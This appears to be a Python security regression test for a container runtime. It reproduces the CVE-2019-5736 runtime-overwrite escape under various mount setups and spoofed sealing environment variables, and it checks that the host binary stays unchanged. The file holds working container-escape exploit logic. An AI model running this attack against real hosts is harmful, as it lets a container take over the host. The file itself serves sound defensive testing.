"""The runtime's own file (CVE-2019-5736 and its variants): a container makes it execute itself inside, and writes to what it holds open."""
import hashlib
import os
import shutil
import subprocess

from harness import ALL, attack, bind, capabilities, namespace

SCRIPT = "#!/proc/self/exe doctor\n"


def digest(path):
    with open(path, "rb") as file:
        return hashlib.sha256(file.read()).hexdigest()


def place(bench, way):
    """Where the host's runtime lies, and what makes the place writable later."""
    source, place = bench.dir("disk"), bench.dir("usr")
    if way == "writable":
        shutil.copy(bench.runtime, place)
        return place, None
    if way in ("tmpfs", "superblock"):
        bench.mount("-t", "tmpfs", "none", source)
    shutil.copy(bench.runtime, source)
    if way == "superblock":
        bench.mount("--bind", source, place)
        subprocess.run(["mount", "-o", "remount,ro", source], check=True)
        return place, ["mount", "-o", "remount,rw", source]
    if way == "file":
        target = os.path.join(place, os.path.basename(bench.runtime))
        open(target, "w").close()
        bench.mount("--bind", os.path.join(source, os.path.basename(bench.runtime)), target)
        subprocess.run(["mount", "-o", "remount,bind,ro", target], check=True)
        return place, ["umount", "-l", target]
    bench.mount("--bind", source, place)
    flags = "ro,nosuid,nodev" if way == "flags" else "ro"
    subprocess.run(["mount", "-o", "remount,bind," + flags, place], check=True)
    return place, ["mount", "-o", "remount,bind,rw", place]


def overwrite(bench, way, command, environment=None):
    place_, later = place(bench, way)
    victim = os.path.join(place_, os.path.basename(bench.runtime))
    real = victim if way == "writable" else os.path.join(bench.folder, "disk", os.path.basename(bench.runtime))
    before = digest(real)
    shared = bench.dir("shared")

    def hostile(config):
        capabilities(config, ALL)
        bind(config, shared, "/vol")
    holder = bench.start(bench.bundle(["/attacker", "hold", "/vol/go"], hostile))
    bench.wait_for("watching", holder)

    def script(bundle):
        with open(bundle + "/rootfs/script", "w") as file:
            file.write(SCRIPT if bench.kind == "runbox" else "#!/proc/self/exe --help\n")
        os.chmod(bundle + "/rootfs/script", 0o755)
        return bundle
    script(bench.path("bundle1"))

    def beside(config):
        namespace(config, "pid", "/proc/%d/ns/pid" % bench.state(holder)["pid"])
        config["process"]["args"] = ["/script"]
    second = script(bench.bundle(["/script"], beside)) if command != "exec" else None
    env = dict(os.environ, **(environment or {}))
    # Until the holder has it: each start is a chance, not yet a try.
    for number in range(150 if bench.long else 60):
        if command == "exec":
            bench.command([victim, "--root", bench.root, "exec", holder, "/script"], env=env)
        else:
            name = bench.new_id()
            bench.command([victim, "--root", bench.root, command, "--bundle", second, name], env=env, stdout=subprocess.DEVNULL)
            if command == "create":
                bench.command([victim, "--root", bench.root, "start", name], env=env)
            bench.command([victim, "--root", bench.root, "delete", "--force", name])
        bench.once()
        if "held" in bench.log(holder):
            break
    else:
        return
    if later:
        subprocess.run(later, check=True, stderr=subprocess.DEVNULL)
        # A mount of one file that is gone leaves its source, which was never read-only.
    with open(shared + "/go", "w"):
        pass
    bench.wait_for("write", holder)
    if "write done" in bench.log(holder) or digest(real) != before:
        bench.lost("the container wrote to the host's runtime")


for way in ("bind", "tmpfs", "superblock", "flags", "file", "writable"):
    for command in ("exec", "run", "create"):
        if command == "exec" or way in ("bind", "writable"):
            attack("sealed-%s-%s" % (way, command))(lambda bench, way=way, command=command: overwrite(bench, way, command))


@attack("sealed-environment", only=["runbox"])
def environment(bench):
    """Whoever calls the runtime may have any environment: none of it may say that the work is done."""
    overwrite(bench, "writable", "exec", {"_RUNBOX_SEALED": "1", "RUNBOX_SEALED": "1", "_LIBCONTAINER_CLONED_BINARY": "1", "SWIFT_BACKTRACE": "enable=no"})


@attack("sealed-environment-bind", only=["runbox"])
def environment_bind(bench):
    overwrite(bench, "bind", "exec", {"_RUNBOX_SEALED": "1", "SWIFT_BACKTRACE": "enable=no"})
